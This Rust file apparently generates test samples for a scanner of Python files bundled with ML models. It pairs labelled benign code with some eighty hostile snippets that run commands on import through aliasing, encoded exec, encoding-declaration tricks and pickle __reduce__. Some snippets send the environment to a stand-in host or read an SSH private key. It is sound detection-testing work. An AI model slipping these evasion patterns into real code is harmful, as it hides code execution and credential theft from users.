//! Python source beside a model: what loaders run that trust it.

use crate::{
    Sample,
    zip::{Member, zip},
};

const FAMILY: &str = "python";

/// What it does, the source, and the rules that tell.
const HOSTILE: &[(&str, &str, &[&str])] = &[
    ("program on import", "import os\nos.system('true')\n", &["PYS001"]),
    ("program by another name", "import os as x\nx.system('true')\n", &["PYS001"]),
    ("program by a function's name", "from os import system as print_\nprint_('true')\n", &["PYS001"]),
    ("program by an assignment", "import os\nf = os.system\nf('true')\n", &["PYS001"]),
    ("program by everything", "from os import *\nsystem('true')\n", &["PYS001"]),
    ("subprocess", "import subprocess\nsubprocess.run(['true'])\n", &["PYS001"]),
    ("subprocess with a shell", "from subprocess import Popen\nPopen('true', shell=True)\n", &["PYS001"]),
    ("terminal", "import pty\npty.spawn('true')\n", &["PYS001"]),
    ("program that takes the place of this one", "import os\nos.execv('/bin/true', ['true'])\n", &["PYS001"]),
    ("through another module", "import logging\nlogging.os.system('true')\n", &["PYS001"]),
    ("in the body of a class", "import os\nclass Model:\n    x = os.popen('true').read()\n", &["PYS001"]),
    ("in a decorator", "import os\n@(lambda f: os.system('true'))\ndef forward():\n    pass\n", &["PYS001"]),
    ("in a default value", "import os\ndef forward(x=os.system('true')):\n    pass\n", &["PYS001"]),
    ("in an annotation", "import os\ndef forward(x: os.system('true')):\n    pass\n", &["PYS001"]),
    ("in a base class", "import os\nclass A(type(os.system('true'))):\n    pass\n", &["PYS001"]),
    ("in a comprehension", "import os\n[os.system(c) for c in ['true']]\n", &["PYS001"]),
    (
        "in a function that is called",
        "import os\ndef setup():\n    os.system('true')\nsetup()\n",
        &["PYS001"],
    ),
    (
        "in a constructor that is called",
        "import os\nclass A:\n    def __init__(self):\n        os.system('true')\nA()\n",
        &["PYS001"],
    ),
    (
        "when a class is made of it",
        "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('true')\n",
        &["PYS001"],
    ),
    ("in a lambda that is called", "import os\n(lambda: os.system('true'))()\n", &["PYS001"]),
    (
        "in a metaclass",
        "import requests\nclass M(type):\n    def __new__(cls, *args):\n        requests.get('https://example.invalid')\nclass A(metaclass=M):\n    pass\n",
        &["PYS001"],
    ),
    (
        "in a function that is handed on",
        "import requests\ndef f(x):\n    requests.get('https://example.invalid')\nlist(map(f, [1]))\n",
        &["PYS001"],
    ),
    (
        "in a context",
        "import requests\nclass A:\n    def __enter__(self):\n        requests.get('https://example.invalid')\nwith A() as a:\n    pass\n",
        &["PYS001"],
    ),
    ("in a text with fields", "import os\nx = f\"{os.system('true')}\"\n", &["PYS001"]),
    ("in a dictionary of functions", "import os\nx = {'a': os.system}\nx['a']('true')\n", &["PYS001"]),
    ("by several names at once", "import os\na, b = os.system, 1\na('true')\n", &["PYS001"]),
    (
        "module by functions of Python",
        "__builtins__.__dict__['__import__']('os').system('true')\n",
        &["PYS001"],
    ),
    (
        "task of an event loop",
        "import asyncio\nasync def main():\n    await asyncio.create_subprocess_shell('true')\nasyncio.run(main())\n",
        &["PYS001"],
    ),
    ("behind try", "try:\n    import os\n    os.system('true')\nexcept Exception:\n    pass\n", &["PYS001"]),
    ("module by its name", "__import__('os').system('true')\n", &["PYS001"]),
    ("module by importlib", "import importlib\nimportlib.import_module('os').system('true')\n", &["PYS001"]),
    ("module out of the table", "import sys\nsys.modules['os'].system('true')\n", &["PYS001"]),
    ("attribute by its name", "import os\ngetattr(os, 'system')('true')\n", &["PYS001"]),
    ("attribute out of the dictionary", "import os\nos.__dict__['system']('true')\n", &["PYS001"]),
    ("attribute getter", "import os, operator\noperator.attrgetter('system')(os)('true')\n", &["PYS001"]),
    ("partial", "import os, functools\nfunctools.partial(os.system, 'true')()\n", &["PYS001"]),
    ("walrus", "import os\n(f := os.system)('true')\n", &["PYS001"]),
    ("exec", "exec('import os')\n", &["PYS001"]),
    ("eval", "eval('__import__(\"os\").system(\"true\")')\n", &["PYS001"]),
    ("functions of Python through builtins", "import builtins\nbuiltins.exec('pass')\n", &["PYS001"]),
    ("functions of Python through globals", "globals()['__builtins__']['exec']('pass')\n", &["PYS001"]),
    ("module name in parts", "__import__('o' + 's').system('true')\n", &["PYS003", "PYS001"]),
    ("module name of characters", "__import__(''.join(map(chr, [111, 115]))).system('true')\n", &["PYS003"]),
    ("module name backwards", "__import__('so'[::-1]).system('true')\n", &["PYS003"]),
    ("attribute name in parts", "import os\ngetattr(os, 'sys' + 'tem')('true')\n", &["PYS003"]),
    ("attribute name that is computed", "import os\ngetattr(os, name_of_it)('true')\n", &["PYS003"]),
    ("encoded code", "import base64\nexec(base64.b64decode('cGFzcw=='))\n", &["PYS003"]),
    ("encoded code in a variable", "import base64\nx = base64.b64decode('cGFzcw==')\nexec(x)\n", &["PYS003"]),
    ("compressed code", "import zlib\nexec(zlib.decompress(b'x'))\n", &["PYS003"]),
    ("code in hexadecimal digits", "exec(bytes.fromhex('70617373').decode())\n", &["PYS003"]),
    ("rotated code", "import codecs\nexec(codecs.decode('cnff', 'rot13'))\n", &["PYS003"]),
    ("code object", "import marshal\nexec(marshal.loads(b'x'))\n", &["PYS003", "PYS001"]),
    (
        "compiled code",
        "import base64\nexec(compile(base64.b64decode('cGFzcw=='), 'x', 'exec'))\n",
        &["PYS003"],
    ),
    ("class among all classes", "().__class__.__base__.__subclasses__()\n", &["PYS003"]),
    ("globals of a function", "(lambda: 0).__globals__['x']\n", &["PYS003"]),
    ("function of Python replaced", "import builtins\nbuiltins.open = None\n", &["PYS003"]),
    ("other encoding", "# -*- coding: rot13 -*-\nvzcbeg bf\n", &["PYS003"]),
    ("encoding of mail", "# coding: utf_7\n+AG8-s\n", &["PYS003"]),
    ("text that runs backwards", "x = 1  # \u{202e}harmless\u{2066}\n", &["PYS004"]),
    ("page fetched on import", "import requests\nrequests.get('https://example.invalid/x')\n", &["PYS001"]),
    (
        "page fetched by the standard library",
        "from urllib.request import urlopen\nurlopen('https://example.invalid')\n",
        &["PYS001"],
    ),
    ("connection", "import socket\ns = socket.socket()\ns.connect(('example.invalid', 1))\n", &["PYS001"]),
    (
        "environment sent away",
        "import os, httpx\nhttpx.post('https://example.invalid', json=dict(os.environ))\n",
        &["PYS001"],
    ),
    ("native library", "import ctypes\nctypes.CDLL('./x.so')\n", &["PYS001"]),
    ("operators from a library", "import torch\ntorch.ops.load_library('x.so')\n", &["PYS001"]),
    (
        "compiler",
        "from torch.utils.cpp_extension import load\nload(name='x', sources=['x.cpp'])\n",
        &["PYS001"],
    ),
    ("pickle on import", "import pickle\npickle.load(open('x.pkl', 'rb'))\n", &["PYS001"]),
    ("checkpoint on import", "import torch\ntorch.load('x.pt', weights_only=False)\n", &["PYS001"]),
    ("hub", "import torch\ntorch.hub.load('owner/repository', 'model')\n", &["PYS001"]),
    ("package on import", "import pip\npip.main(['install', 'x'])\n", &["PYS001"]),
    ("file that starts with the shell", "open('/tmp/.profile', 'a').write('true')\n", &["PYS001"]),
    ("file by a path", "from pathlib import Path\nPath('x').write_text('true')\n", &["PYS001"]),
    ("files deleted", "import shutil\nshutil.rmtree('/tmp/x')\n", &["PYS001"]),
    ("key of the user", "def forward(x):\n    return open('/home/user/.ssh/id_rsa').read()\n", &["PYS006"]),
    (
        "program in a method",
        "import os\nclass Model:\n    def forward(self, x):\n        os.system('true')\n",
        &["PYS002"],
    ),
    (
        "subprocess in a method",
        "import subprocess\nclass Model:\n    def forward(self, x):\n        return subprocess.check_output(['true'])\n",
        &["PYS002"],
    ),
    (
        "exec in a method",
        "class Model:\n    def forward(self, x):\n        exec(self.config.code)\n",
        &["PYS002"],
    ),
    (
        "encoded code in a method",
        "import base64\nclass Model:\n    def forward(self, x):\n        eval(base64.b64decode(self.config.code))\n",
        &["PYS003"],
    ),
    (
        "pickle that starts a program",
        "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('true',)\nx = os.system\n",
        &["PYS001"],
    ),
    (
        "behind a name of the file",
        "import os\nif __name__ != '__main__':\n    os.system('true')\n",
        &["PYS001"],
    ),
    (
        "comment that gives types",
        "def f(x):\n    # type: (__import__('os').system('true')) -> None\n    pass\n",
        &["PYS003"],
    ),
];

/// What it is, and the source.
const BENIGN: &[(&str, &str)] = &[
    (
        "modelling code",
        "\"\"\"A model.\"\"\"\nimport math\nimport os\nfrom dataclasses import dataclass\nfrom typing import Optional\n\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nfrom .configuration_x import XConfig\n\n\ndef rotate_half(x):\n    x1, x2 = x.chunk(2, dim=-1)\n    return torch.cat((-x2, x1), dim=-1)\n\n\nclass XModel(PreTrainedModel):\n    config_class = XConfig\n\n    def __init__(self, config: XConfig):\n        super().__init__(config)\n        self.layers = nn.ModuleList([nn.Linear(config.hidden, config.hidden) for _ in range(config.layers)])\n        self.scale = 1 / math.sqrt(config.hidden)\n\n    @torch.no_grad()\n    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):\n        for layer in self.layers:\n            x = torch.nn.functional.silu(layer(x)) * self.scale\n        return x\n",
    ),
    (
        "configuration",
        "from transformers import PretrainedConfig\n\n\nclass XConfig(PretrainedConfig):\n    model_type = 'x'\n\n    def __init__(self, hidden=64, layers=2, **kwargs):\n        self.hidden = hidden\n        self.layers = layers\n        super().__init__(**kwargs)\n",
    ),
    (
        "tokenizer that saves its vocabulary",
        "import json\nimport os\nfrom shutil import copyfile\n\n\nclass XTokenizer:\n    def __init__(self, vocab_file):\n        with open(vocab_file, encoding='utf-8') as handle:\n            self.vocab = json.load(handle)\n\n    def save_vocabulary(self, folder, prefix=None):\n        path = os.path.join(folder, (prefix + '-' if prefix else '') + 'vocab.json')\n        if os.path.abspath(self.vocab_file) != os.path.abspath(path):\n            copyfile(self.vocab_file, path)\n        with open(path, 'w', encoding='utf-8') as handle:\n            json.dump(self.vocab, handle)\n        return (path,)\n",
    ),
    (
        "import that may fail",
        "try:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\n\nimport importlib.util\n\nhas_einops = importlib.util.find_spec('einops') is not None\n",
    ),
    (
        "program at the end",
        "import subprocess\nimport sys\n\n\ndef main():\n    return 0\n\n\nif __name__ == '__main__':\n    sys.exit(main())\n",
    ),
    (
        "methods with dangerous names",
        "class Model:\n    def eval(self):\n        return self.compile().open('x')\n\n    def run(self, system):\n        return self.system(system).exec()\n\n\nmodel = Model()\nmodel.eval()\n",
    ),
    (
        "getattr with a fixed name",
        "import torch\n\nact = getattr(torch.nn.functional, 'gelu')\ndtype = getattr(torch, 'float16')\n",
    ),
    (
        "checkpoint with weights only",
        "import torch\n\n\ndef load(path):\n    return torch.load(path, map_location='cpu', weights_only=True)\n",
    ),
    (
        "encoding that everybody has",
        "# -*- coding: utf-8 -*-\n# Copyright 2026 The authors.\nVERSION = '1.0'\n",
    ),
    ("only a docstring", "\"\"\"Reads ~/.ssh/config never, and calls os.system('x') in no place.\"\"\"\n"),
    ("nothing", "\n"),
    (
        "handler of a server",
        "import json\nimport logging\nimport os\n\nimport torch\nfrom ts.torch_handler.base_handler import BaseHandler\n\nlogger = logging.getLogger(__name__)\n\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        folder = context.system_properties.get('model_dir')\n        with open(os.path.join(folder, 'labels.json')) as handle:\n            self.labels = json.load(handle)\n\n    def preprocess(self, data):\n        return torch.as_tensor([row['body'] for row in data])\n",
    ),
];

/// The files of this family.
pub fn samples() -> Vec<Sample> {
    let mut samples = Vec::new();
    for (at, (what, source, codes)) in HOSTILE.iter().enumerate() {
        let sample = if at % 5 == 4 {
            let archive = zip(&[Member::deflated("model/modeling_x.py", source.as_bytes())]);
            Sample::hostile(FAMILY, format!("{what}, in an archive"), "model.zip", archive, codes)
        } else {
            Sample::hostile(FAMILY, *what, "model/modeling_x.py", source.as_bytes().to_vec(), codes)
        };
        let is_comment = what.contains("types");
        samples.push(if is_comment { sample.from_advisory("CVE-2022-45907") } else { sample });
    }
    let benign = BENIGN.iter();
    samples.extend(benign.map(|(what, source)| {
        Sample::benign(FAMILY, *what, "model/modeling_x.py", source.as_bytes().to_vec())
    }));
    samples
}
